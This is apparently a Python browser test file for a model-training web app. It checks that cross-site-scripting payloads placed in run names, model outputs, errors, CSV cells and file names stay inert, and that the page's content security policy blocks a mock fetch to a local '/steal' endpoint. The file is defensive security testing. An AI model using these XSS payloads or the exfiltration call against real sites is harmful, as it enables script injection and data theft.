"""Scripts in a cell, a model's output, a run's name, an error: shown as text in a real browser, and never run."""

from __future__ import annotations

from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

from ftcore.catalog import load_catalog
from ftcore.files import write_json
from ftcore.runs import Message, RunStore, Status, new_config

pytestmark = pytest.mark.browser

EVILS = (
    "<img src=x onerror='window.ran=1'>",
    "<script>window.ran=1</script>",
    '"><svg onload=window.ran=1>',
    "</script><script>window.ran=1</script>",
    "[x](javascript:window.ran=1)",
    "{{constructor.constructor('window.ran=1')()}}",
)
EVIL = " ".join(EVILS)


def ran(page: Any) -> Any:
    """What a script that got through would have left."""
    page.wait_for_timeout(300)
    return page.evaluate("window.ran")


@pytest.fixture
def evil_run(app: Any) -> str:
    """A failed run whose name, data, model output and error are all scripts."""
    store = RunStore(app.runs_dir)
    config = new_config(catalog=load_catalog(), recipe="quick-qa", name=EVIL)
    run = store.create(config)
    message = Message("row_unreadable", EVIL, {"row": EVIL, "split": EVIL, "problem": EVIL}, (EVIL, EVIL))
    write_json(run.path / "status.json", asdict(Status("failed", message=message)))
    for step in (1, 2, 3):
        run.event_log.append("log", step=step, loss=3.0 / step, learning_rate=1e-3)
    item = {"id": EVIL, "source": EVIL, "reference": EVIL, "text": EVIL}
    run.event_log.append("eval", step=2, eval_loss=2.0, seconds=1.0)
    run.event_log.append("watched", step=3, items=[item])
    run.log_path.write_text(f"{EVIL}\n" * 3, encoding="utf-8")
    return run.run_id


def test_a_run_full_of_scripts(app: Any, page: Any, evil_run: str) -> None:
    page.goto(f"{app.address}/?tab=train&run={evil_run}")
    page.wait_for_selector("#run-status >> text=onerror")
    page.wait_for_selector("#run-watched td >> text=onerror")
    assert "<svg onload" in page.inner_text("#run-watched")
    assert ran(page) is None
    page.click("button[role=tab][data-tab-id=runs]")
    page.wait_for_selector("#runs-table >> text=onerror")
    page.click("#runs-chosen input")
    page.click("[role=option] >> text=onerror")
    page.wait_for_selector("#runs-scores >> text=onerror")
    page.mouse.move(700, 600)
    assert ran(page) is None
    assert page.query_selector("#runs-table img, #runs-table script, #runs-scores img, #run-watched img") is None


def test_a_file_full_of_scripts(app: Any, page: Any, tmp_path: Path) -> None:
    cell = EVIL.replace('"', '""')
    rows = "".join(f'"{number} {cell}","{number} other {cell}"\n' for number in range(30))
    file = tmp_path / "<img src=x onerror=window.ran=1>.csv"
    file.write_text(f'"text","<b onmouseover=window.ran=1>paraphrase"\n{rows}', encoding="utf-8")
    page.goto(f"{app.address}/?tab=data")
    page.set_input_files("#data-file input[type=file]", str(file))
    page.wait_for_selector("#data-report td >> text=onerror")
    assert page.query_selector("#data-report img, #data-report script, #data-report svg[onload]") is None
    assert ran(page) is None


def test_messages_full_of_scripts(app: Any, page: Any) -> None:
    page.goto(f"{app.address}/?tab=question-answering&lang=es&run={EVILS[0]}")
    page.wait_for_selector("#columns-question-answering >> text=tiny-flan")
    page.fill("#columns-question-answering input", EVILS[0])
    page.keyboard.press("Enter")
    page.fill("#question-answering-question textarea", EVIL)
    page.fill("#question-answering-context textarea", EVIL)
    page.click("#go-question-answering")
    page.wait_for_selector(".toast-body >> text=onerror")
    assert ran(page) is None


def test_the_policy_stops_what_would_get_through(app: Any, page: Any) -> None:
    """Should a script run after all, it can send nothing to another host."""
    page.goto(app.address)
    page.wait_for_selector("#go-paraphrase")
    broken = """new Promise((done) => {
      document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
      fetch("http://127.0.0.1:9999/steal").catch(() => setTimeout(() => done("no policy"), 2000));
    })"""
    assert page.evaluate(broken) == "connect-src"
    assert page.evaluate("document.cookie").find("bvt_visitor") == -1
